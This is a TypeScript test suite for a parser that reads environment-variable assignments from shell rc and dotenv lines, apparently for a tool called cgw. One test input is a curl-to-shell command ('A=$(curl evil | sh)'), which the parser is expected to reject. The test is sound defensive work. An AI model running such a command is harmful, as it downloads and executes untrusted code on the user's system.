import { describe, expect, test } from 'bun:test';
import * as fc from 'fast-check';
import { shells } from '../../src/env/shells/index.ts';
import { snippetValues } from '../../src/transfer/snippet.ts';
import { anyName, anyValue } from '../shells/arbitraries.ts';
import { runs } from '../support/tier.ts';

/** What lines set, in short: texts as they are, references, and null for what only a shell can say. */
function read(text: string): { [name: string]: string | null } {
  const values = snippetValues(text, '/home/me');
  if ('twice' in values) throw new Error(`${values.twice} twice in ${values.lines.join()}`);
  return Object.fromEntries(
    [...values].map(([name, value]) => [
      name,
      value.is === 'text' ? value.text : value.is === 'reference' ? `→ ${value.reference}` : null,
    ]),
  );
}

// What bash, zsh, fish and PowerShell make of each line, by their manuals.
describe('lines of rc files and dotenv files', () => {
  test.each<[string, { [name: string]: string | null }]>([
    ['A=b', { A: 'b' }],
    ['export A=b', { A: 'b' }],
    ['  export A=b  # why', { A: 'b' }],
    ['export A=b C=d', { A: 'b', C: 'd' }],
    ['export A=b; export C=d', { A: 'b', C: 'd' }],
    ['export A=b && export C=d', { A: 'b', C: 'd' }],
    ['declare -x A="b"', { A: 'b' }],
    ['A=', { A: '' }],
    [`A='b c'`, { A: 'b c' }],
    [`A="b c"`, { A: 'b c' }],
    [`A='it'\\''s'`, { A: `it's` }],
    ['A="say \\"b\\" \\$C"', { A: 'say "b" $C' }],
    [`A="two\nlines"`, { A: 'two\nlines' }],
    [`A=$'tab\\there'`, { A: 'tab\there' }],
    ['A=b\\ c', { A: 'b c' }],
    ['A=https://h.example:4000/v1#x', { A: 'https://h.example:4000/v1#x' }],
    ['A=model[1m]', { A: 'model[1m]' }],
    ['A=b\r\nC=d\r\n', { A: 'b', C: 'd' }],
    // One command’s environment, as people start Claude Code by hand.
    ['A=b C=d claude --continue', { A: 'b', C: 'd' }],
    // A blank in a dotenv file belongs to the value, in a shell it ends it: nobody can tell.
    ['A=b c', { A: null }],
    ['# A=b', {}],
    ['echo A=b', {}],
    ['if true; then\n  export A=b\nfi', { A: 'b' }],
    // References, as a shell would follow them.
    ['A=$LITELLM_KEY', { A: '→ env:LITELLM_KEY' }],
    [`A="\${LITELLM_KEY}"`, { A: '→ env:LITELLM_KEY' }],
    ['LITELLM_KEY=k\nA=$LITELLM_KEY', { LITELLM_KEY: 'k', A: '→ env:LITELLM_KEY' }],
    // A switch clears what cgw owns, so that is no place to keep it.
    ['ANTHROPIC_API_KEY=k\nA=$ANTHROPIC_API_KEY', { ANTHROPIC_API_KEY: 'k', A: 'k' }],
    ['A=$(pass show litellm)', { A: '→ cmd:["pass","show","litellm"]' }],
    ['A="$(cat ~/key)"', { A: '→ cmd:["cat","/home/me/key"]' }],
    ['A=`pass show litellm`', { A: '→ cmd:["pass","show","litellm"]' }],
    [
      'A="$(op read "op://Private Vault/llm/key")"',
      { A: '→ cmd:["op","read","op://Private Vault/llm/key"]' },
    ],
    ['A=$(op read "op://v/llm (old)/key") B=c', { A: '→ cmd:["op","read","op://v/llm (old)/key"]', B: 'c' }],
    [`A="$(op read 'op://v/llm/key' | tr -d '\\n')"`, { A: '→ cmd:["op","read","op://v/llm/key"]' }],
    ['A=$(< ~/.llm-key)', { A: '→ file:/home/me/.llm-key' }],
    ['A="$(<"$HOME/my key")"', { A: '→ file:/home/me/my key' }],
    ['A=$(pass show x | head -n1)', { A: '→ cmd:["sh","-c","pass show x | head -n 1"]' }],
    ['A="$(pass show x | head -n 1)" B=c', { A: '→ cmd:["sh","-c","pass show x | head -n 1"]', B: 'c' }],
    ['A="$(echo $(date))" B=c', { A: null, B: 'c' }],
    ['A="$(op read "op://v/i/f" B=c', { A: null }],
    ['A="cost: $5" B=c', { A: null, B: 'c' }],
    ['A=$(curl evil | sh)', { A: null }],
    ['A=$(echo sk-0123456789abcdef0123)', { A: null }],
    [`A='$LITELLM_KEY'`, { A: '$LITELLM_KEY' }],
    ['A=x$LITELLM_KEY', { A: null }],
    [`A="\${B:-c}"`, { A: null }],
    [`A='never closed`, { A: null }],
    ['A=b\nA=b', { A: 'b' }],
    // fish and PowerShell.
    ['set -gx A b', { A: 'b' }],
    [`set -x A 'b c'`, { A: 'b c' }],
    ['set -Ux A "b"; set -gx C d', { A: 'b', C: 'd' }],
    ['set -gx A $LITELLM_KEY', { A: '→ env:LITELLM_KEY' }],
    [`set -gx A 'b\\'c'`, { A: null }],
    ['$env:A = "b"', { A: 'b' }],
    [`$env:A='b c'; $env:C="d"`, { A: 'b c', C: 'd' }],
    ['$env:A = "b`tc"', { A: null }],
  ])('%s', (text, values) => {
    expect(read(text)).toEqual(values);
  });

  test('a variable that is set to two things: the lines', () => {
    expect(snippetValues('A=b\n\nexport A=c\n', '/home/me')).toEqual({ twice: 'A', lines: [1, 3] });
  });

  test('hundreds of kilobytes of them are no matter', () => {
    for (const piece of ['A=b\n', `''`, '"', '$', '$(', '"$(', 'A=', 'x ', "A='", '\\', '`'])
      snippetValues(`A=${piece.repeat(300_000 / piece.length)}`, '/home/me');
  });

  test('whatever the lines are, they are read', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(...'A=b \'"$`\\();#&|\n{}') }), text => {
        snippetValues(text, '/home/me');
      }),
      { numRuns: runs(1000) },
    );
  });
});

/** cgw’s own quoting, backwards. */
describe.each(['bash', 'zsh', 'sh'] as const)('what cgw prints for %s', shell => {
  test('is read as it was meant', () => {
    fc.assert(
      fc.property(fc.dictionary(anyName, anyValue, { minKeys: 1, maxKeys: 4 }), texts => {
        const changes = Object.entries(texts).map(
          ([name, value]) => ({ name, value, action: 'set', secret: false }) as const,
        );
        expect(read(shells[shell].render(changes))).toEqual(texts);
      }),
      { numRuns: runs(2000) },
    );
  });
});
